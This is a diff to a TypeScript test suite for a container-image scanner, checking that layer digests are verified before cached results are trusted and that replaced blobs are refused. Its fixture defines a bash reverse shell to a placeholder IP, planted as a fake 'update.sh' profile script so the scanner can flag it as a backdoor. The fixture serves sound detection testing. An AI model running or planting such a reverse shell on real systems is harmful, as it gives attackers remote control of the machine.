@@ -25,6 +25,14 @@ const REVERSE_SHELL = '#!/bin/sh\nbash -i >& /dev/tcp/203.0.113.7/4444 0>&1\n';
 const benign: ImageSpec = { layers: [{ entries: [{ name: 'etc/motd', content: 'welcome\n' }, { name: 'usr/share/doc/readme', content: 'nothing to see\n' }] }] };
 const malicious: ImageSpec = { layers: [{ entries: [{ name: 'etc/profile.d/update.sh', content: REVERSE_SHELL, mode: 0o755 }] }] };
 
+/** The digests remembered in a cache's `local-digests/` (one per file). */
+function rememberedDigests(cacheDir: string): string[] {
+  const root = join(cacheDir, 'local-digests');
+  return readdirSync(root, { recursive: true, withFileTypes: true })
+    .filter((e) => e.isFile())
+    .map((e) => readFileSync(join(e.parentPath, e.name), 'utf8'));
+}
+
 const backdoors = (r: Report) => r.findings.filter((f) => f.category === 'backdoor').map((f) => f.path);
 
 async function staticScan(ref: string, cacheDir: string): Promise<Report> {
@@ -90,9 +98,10 @@ describe('diffIDs are verified before the layer cache is trusted', () => {
     const built = await writeOciArchive(path, malicious);
     const ref = `oci-archive:${path}`;
     expect(backdoors(await staticScan(ref, cacheDir))).toEqual(['etc/profile.d/update.sh']);
+    // the cold scan verified the layer while walking it and remembered its digest by the file's identity, so even the
+    // first warm scan does not hash it
+    expect(rememberedDigests(cacheDir)).toContain(built.layerDigests[0]);
     expect(backdoors(await staticScan(ref, cacheDir))).toEqual(['etc/profile.d/update.sh']);
-    // the second scan remembered the layer's digest by the file's identity
-    expect(readdirSync(join(cacheDir, 'local-digests'), { recursive: true }).length).toBeGreaterThan(0);
     // overwrite the layer's bytes in place with a valid gzip of another tar, same size, and put the mtime back
     const before = statSync(path);
     const { TarIndex } = await import('../../src/image/archive/tar-index.js');
@@ -103,6 +112,24 @@ describe('diffIDs are verified before the layer cache is trusted', () => {
     closeSync(fd);
     utimesSync(path, before.atime, before.mtime);
     await expect(staticScan(ref, cacheDir)).rejects.toThrow(/digest mismatch/);
+  });
+
+  it('a cold scan of a docker archive or a layout remembers the layers it verified; a blob replaced in a layout is hashed again and refused', async () => {
+    const cacheDir = join(work, 'cache-remember');
+    // an uncompressed layer file: its digest is the diffID it claims, not hashed until the walk reads it
+    const archive = await writeDockerArchive(join(work, 'remember-docker.tar'), malicious);
+    expect(backdoors(await staticScan(`docker-archive:${join(work, 'remember-docker.tar')}`, cacheDir))).toEqual(['etc/profile.d/update.sh']);
+    expect(rememberedDigests(cacheDir)).toContain(archive.diffIds[0]);
+    const dir = join(work, 'remember-layout');
+    const layout = await writeOciDirectory(dir, malicious);
+    expect(backdoors(await staticScan(`oci:${dir}`, cacheDir))).toEqual(['etc/profile.d/update.sh']);
+    expect(rememberedDigests(cacheDir)).toContain(layout.layerDigests[0]);
+    // a new file under the blob's name (another inode) is not the one remembered: it is hashed and refused
+    const evil = await buildOciLayout(benign);
+    const blob = join(dir, 'blobs/sha256', layout.layerDigests[0]!.slice(7));
+    rmSync(blob);
+    writeFileSync(blob, evil.files.get(`blobs/sha256/${evil.layerDigests[0]!.slice(7)}`)!);
+    await expect(staticScan(`oci:${dir}`, cacheDir)).rejects.toThrow(/digest mismatch/);
   });
 
   describe('from a registry', () => {
